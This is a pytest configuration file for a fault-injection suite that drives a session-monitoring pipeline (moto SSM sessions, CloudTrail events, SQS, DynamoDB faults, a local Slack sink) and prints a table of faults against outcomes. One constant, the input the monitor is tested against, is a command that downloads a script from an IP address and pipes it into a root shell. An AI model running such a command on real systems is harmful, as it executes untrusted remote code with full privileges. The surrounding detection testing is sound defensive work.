"""The fault-injection suite: the whole local pipeline (moto server with SSM sessions, the local Slack
sink, the real handlers) with faults injected where AWS and Slack fail in production.

Where faults come from:
- Slack: the sink's ``fail_next`` (5xx), ``stall_next`` (no answer: client timeout) and
  ``rate_limit_next`` (429 with Retry-After);
- SSM: ``moto_sessions.inject_faults`` (TerminateSession throttled or failing);
- DynamoDB: ``ssm_warden_local.aws_faults.ClientFaults``, a ``before-send`` hook on the functions'
  own DynamoDB client that answers the next N matching requests with AWS's JSON error (moto has no
  throttling switch), so botocore's retries and error parsing run as they would against AWS;
- SQS redelivery and CloudTrail's duplicate, late and out-of-order events: delivered by the tests.

Every test records one row (``fault_row``) with what it observed; ``make faults`` (a run of this
directory alone) prints them as a table of faults x outcomes at the end.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from functions.action_executor import app as executor_app
from functions.command_monitor import app as monitor_app
from functions.session_events import app as events_app
from ssm_warden.audit import read_audit
from ssm_warden.clients import aws_client
from ssm_warden.config import reset_settings
from ssm_warden.handlers import action_executor
from ssm_warden.models.audit import AuditRecord, Decision
from ssm_warden.policy.store import reset_policy_cache
from ssm_warden.slack import transport
from ssm_warden.slack.notifier import reset_notifier
from ssm_warden.slack.secret import reset_secret_cache
from ssm_warden_local import moto_sessions
from ssm_warden_local.aws_faults import ClientFaults
from ssm_warden_local.lambda_runtime import DrainReport, LambdaContext, drain_queue, queue_depth
from ssm_warden_local.resources import LocalStack
from ssm_warden_local.slack_sink import SinkMessage, SlackSink
from tests.conftest import ACCOUNT, REGION, load_event
from tests.unit.logs.builders import PRINCIPAL_ARN, TARGET_ID, log_event, payload, streamed

SECRET_NAME = "ssm-warden/slack"
PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
RISKY_TITLE = "Download piped into a shell"
STARTED_AT = "2024-01-04T05:40:00Z"  # before the log builders' first event (2024-01-04T05:45:59Z)

# -- the faults x outcomes table ------------------------------------------------------------------

ROWS: list[FaultRow] = []
_COLUMNS = ("fault", "injected", "delivered after clearing", "duplicates", "batch isolation", "result")


@dataclass
class FaultRow:
    """One line of the table: the fault, what was injected, and what the test observed."""

    fault: str
    injected: str
    delivered: str = "-"
    duplicates: str = "-"
    isolation: str = "n/a"
    result: str = "not run"
    examples: int = 0  # property-based tests: how many examples ran

    def observe(
        self,
        *,
        delivered: bool | str | None = None,
        duplicates: int | str | None = None,
        isolated: bool | str | None = None,
    ) -> None:
        """Record what was seen (call it before asserting, so a failing test shows the real values)."""
        if delivered is not None:
            self.delivered = delivered if isinstance(delivered, str) else ("yes" if delivered else "NO")
        if duplicates is not None:
            self.duplicates = str(duplicates) if isinstance(duplicates, int) else duplicates
        if isolated is not None:
            self.isolation = isolated if isinstance(isolated, str) else ("yes" if isolated else "NO")

    def cells(self) -> tuple[str, ...]:
        injected = f"{self.injected} ({self.examples} examples)" if self.examples > 1 else self.injected
        return (self.fault, injected, self.delivered, self.duplicates, self.isolation, self.result)


_ROW = pytest.StashKey[FaultRow]()


@pytest.fixture
def fault_row(request: pytest.FixtureRequest) -> Callable[[str, str], FaultRow]:
    def make(fault: str, injected: str) -> FaultRow:
        """The test's row (one per test: a property-based test asks once per example)."""
        row: FaultRow | None = request.node.stash.get(_ROW, None)
        if row is None:
            row = FaultRow(fault, injected)
            ROWS.append(row)
            request.node.stash[_ROW] = row
        row.examples += 1
        return row

    return make


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item: pytest.Item, call: pytest.CallInfo[None]) -> Iterator[None]:
    outcome = yield
    report = outcome.get_result()  # type: ignore[attr-defined]
    row = item.stash.get(_ROW, None)
    if row is None:
        return
    if report.when == "call" or (report.when == "setup" and not report.passed):
        row.result = "pass" if report.passed else ("skip" if report.skipped else "FAIL")


def format_table(rows: list[FaultRow]) -> str:
    cells = [_COLUMNS, *(r.cells() for r in rows)]
    widths = [max(len(c[i]) for c in cells) for i in range(len(_COLUMNS))]
    line = "+" + "+".join("-" * (w + 2) for w in widths) + "+"
    out = [line]
    for n, row in enumerate(cells):
        out.append("| " + " | ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)) + " |")
        if n == 0:
            out.append(line.replace("-", "="))
    out.append(line)
    return "\n".join(out)


def pytest_terminal_summary(terminalreporter: Any, exitstatus: int, config: pytest.Config) -> None:
    """Print the table when the run was this suite alone (``make faults``), not in ``make test``."""
    nodeids = {
        r.nodeid for reports in terminalreporter.stats.values() for r in reports if getattr(r, "nodeid", "")
    }
    if not ROWS or not all(n.startswith("tests/integration/faults/") for n in nodeids):
        return
    terminalreporter.write_sep("=", "faults x outcomes")
    terminalreporter.write_line(format_table(ROWS))


# -- the local Slack --------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def slack_server() -> Iterator[SlackSink]:
    sink = SlackSink(channels={"#ssm-warden": "C0SSMWARDEN", "#prod-security": "C0PRODSEC"})
    sink.start()
    yield sink
    sink.stop()


@pytest.fixture
def sink(slack_server: SlackSink) -> Iterator[SlackSink]:
    slack_server.reset()
    yield slack_server
    slack_server.reset()


def clear_slack_faults(sink: SlackSink) -> None:
    """Slack is healthy again: drop the faults still queued in the sink."""
    with sink._lock:
        sink._faults.clear()


@pytest.fixture
def slack_waits(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """Retry-After waits the Slack client asked for (recorded, not slept)."""
    asked: list[float] = []
    monkeypatch.setattr(transport, "_sleep", asked.append)
    return asked


@pytest.fixture(autouse=True)
def _no_default_amis(monkeypatch: pytest.MonkeyPatch) -> None:
    """moto builds its EC2 backend after every reset; without its ~1,300 default AMIs (none is used:
    instances need no AMI in moto) that takes a millisecond instead of a quarter second."""
    monkeypatch.setenv("MOTO_EC2_LOAD_DEFAULT_AMIS", "false")


@pytest.fixture(autouse=True)
def sdk_backoff(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """The SDK's retry backoff delays (standard mode), recorded and not slept: the retries happen,
    the suite does not wait for them."""
    from botocore.retries.standard import ExponentialBackoff

    original = ExponentialBackoff.delay_amount
    asked: list[float] = []

    def record(self: ExponentialBackoff, context: Any) -> float:
        asked.append(original(self, context))
        return 0.0

    monkeypatch.setattr(ExponentialBackoff, "delay_amount", record)
    return asked


# -- the pipeline -------------------------------------------------------------------------------------


@dataclass
class Pipeline:
    """Sessions in moto, their CloudTrail events and logs through the real handlers, the action
    queue drained through the real executor, alerts posted to the local Slack."""

    stack: LocalStack
    sink: SlackSink
    seq: int = 0
    log_events: dict[str, int] = field(default_factory=dict)
    # Sessions started as someone other than the default principal: the agent writes the owner's ARN.
    principals: dict[str, str] = field(default_factory=dict)

    # -- the world ---------------------------------------------------------------------------
    def instance(self, **tags: str) -> str:
        ec2 = aws_client("ec2")
        instance_id = str(
            ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
        )
        if tags:
            ec2.create_tags(Resources=[instance_id], Tags=[{"Key": k, "Value": v} for k, v in tags.items()])
        return instance_id

    def open_session(self, target: str) -> str:
        """A session really started in the moto backend (no event delivered)."""
        return str(aws_client("ssm").start_session(Target=target)["SessionId"])

    def start(self, environment: str = "prod", *, reason: str | None = "INC-1 looking") -> str:
        """A session on a host tagged ``Environment=environment``, its StartSession delivered."""
        session_id = self.open_session(self.instance(Environment=environment))
        result = self.deliver(self.start_event(session_id, reason=reason))
        assert result["status"] == "applied", result
        return session_id

    def _event(self, name: str, fixture: str, session_id: str, at: str) -> dict[str, Any]:
        self.seq += 1
        event = copy.deepcopy(load_event(fixture))
        detail = event["detail"]
        detail["eventID"] = f"00000000-0000-4000-8000-{self.seq:012d}"
        detail["eventTime"] = at
        assert detail["eventName"] == name
        return event

    def start_event(
        self,
        session_id: str,
        *,
        reason: str | None = "INC-1 looking",
        at: str = STARTED_AT,
        document: str | None = None,
    ) -> dict[str, Any]:
        event = self._event("StartSession", "start_session_shell.json", session_id, at)
        found = moto_sessions.get_session(ACCOUNT, REGION, session_id)
        request: dict[str, Any] = {"target": found.target if found else "i-0123456789abcdef0"}
        if reason:
            request["reason"] = reason
        if document:
            request["documentName"] = document
        event["detail"]["requestParameters"] = request
        event["detail"]["responseElements"]["sessionId"] = session_id
        return event

    def terminate_event(self, session_id: str, *, at: str) -> dict[str, Any]:
        event = self._event("TerminateSession", "terminate_session_by_user.json", session_id, at)
        event["detail"]["requestParameters"] = {"sessionId": session_id}
        event["detail"]["responseElements"] = {"sessionId": session_id}
        return event

    def resume_event(self, session_id: str, *, at: str) -> dict[str, Any]:
        event = self._event("ResumeSession", "resume_session.json", session_id, at)
        event["detail"]["requestParameters"] = {"sessionId": session_id}
        event["detail"]["responseElements"]["sessionId"] = session_id
        return event

    def deliver(self, event: dict[str, Any]) -> dict[str, Any]:
        """EventBridge → session_events (one event per invocation)."""
        result: dict[str, Any] = events_app.lambda_handler(
            event, LambdaContext(function_name="session-events")
        )
        return result

    def log_payload(self, session_id: str, *batches: list[str], first: int | None = None) -> dict[str, Any]:
        """A subscription payload of ``session_id``'s log stream: one streamed event per list of lines,
        numbered after the stream's previous events (or from ``first``)."""
        start = self.log_events.get(session_id, 0) if first is None else first
        target = self.target_of(session_id)
        events = [
            log_event(
                start + i,
                streamed(
                    lines,
                    session_id=session_id,
                    target=target,
                    principal=self.principals.get(session_id, PRINCIPAL_ARN),
                ),
                seconds=start + i,
            )
            for i, lines in enumerate(batches)
        ]
        self.log_events[session_id] = max(self.log_events.get(session_id, 0), start + len(batches))
        return payload(events, stream=session_id)

    def target_of(self, session_id: str) -> str:
        """The session's target: what the agent on its host writes in each log event."""
        found = moto_sessions.get_session(ACCOUNT, REGION, session_id)
        return found.target if found else TARGET_ID

    def watch(self, event: dict[str, Any]) -> dict[str, Any]:
        """CloudWatch Logs subscription → command_monitor."""
        result: dict[str, Any] = monitor_app.lambda_handler(
            event, LambdaContext(function_name="command-monitor")
        )
        return result

    # -- the action queue --------------------------------------------------------------------
    @property
    def queue(self) -> str:
        return self.stack.queues["ActionQueue"]

    @property
    def dead_letters(self) -> str:
        return self.stack.queues["ActionDeadLetterQueue"]

    def drain(self, max_rounds: int = 20, handler: Callable[..., Any] | None = None) -> DrainReport:
        """SQS → action_executor until the queue is empty (or ``max_rounds`` receives)."""
        return drain_queue(
            aws_client("sqs"), self.queue, handler or executor_app.lambda_handler, max_rounds=max_rounds
        )

    def queued(self) -> int:
        return queue_depth(aws_client("sqs"), self.queue)

    def dead_lettered(self) -> int:
        return queue_depth(aws_client("sqs"), self.dead_letters)

    # -- what happened -----------------------------------------------------------------------
    def alerts(self, title: str) -> list[SinkMessage]:
        """Alert messages (not thread roots) that carry ``title``."""
        return [m for m in self.sink.live() if m.thread_ts and title in (m.text or "")]

    def roots(self) -> list[SinkMessage]:
        return [m for m in self.sink.live() if not m.thread_ts]

    def terminate_calls(self, session_id: str) -> int:
        """Successful TerminateSession calls for the session (moto records them)."""
        found = moto_sessions.get_session(ACCOUNT, REGION, session_id)
        return found.terminate_calls if found else 0

    def status(self, session_id: str) -> str:
        found = moto_sessions.get_session(ACCOUNT, REGION, session_id)
        assert found is not None
        return found.status

    def audit(self, session_id: str, decision: Decision | None = None) -> list[AuditRecord]:
        return [r for r in read_audit(session_id) if decision is None or r.decision is decision]


@pytest.fixture
def pipeline(
    stack: LocalStack, sink: SlackSink, slack_waits: list[float], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Pipeline]:
    """The stack from template.yaml, the Slack secret (bot token) pointing at the local Slack."""
    secret = {"bot_token": sink.bot_token, "default_channel": "#ssm-warden"}
    aws_client("secretsmanager").create_secret(Name=SECRET_NAME, SecretString=json.dumps(secret))
    monkeypatch.setenv("SLACK_SECRET_NAME", SECRET_NAME)
    monkeypatch.setenv("SLACK_API_URL", sink.url)
    reset_settings()
    _forget_caches()
    yield Pipeline(stack=stack, sink=sink)
    _forget_caches()


def _forget_caches() -> None:
    from ssm_warden.monitor.judging import batch_judge

    reset_notifier()
    reset_secret_cache()
    reset_policy_cache()
    action_executor.reset_idempotency()
    batch_judge.cache_clear()


@pytest.fixture
def dynamo_faults(pipeline: Pipeline) -> Iterator[ClientFaults]:
    """Error responses for the functions' DynamoDB client (ledger, audit, idempotency, Slack state)."""
    faults = ClientFaults(aws_client("dynamodb"))
    yield faults
    faults.remove()
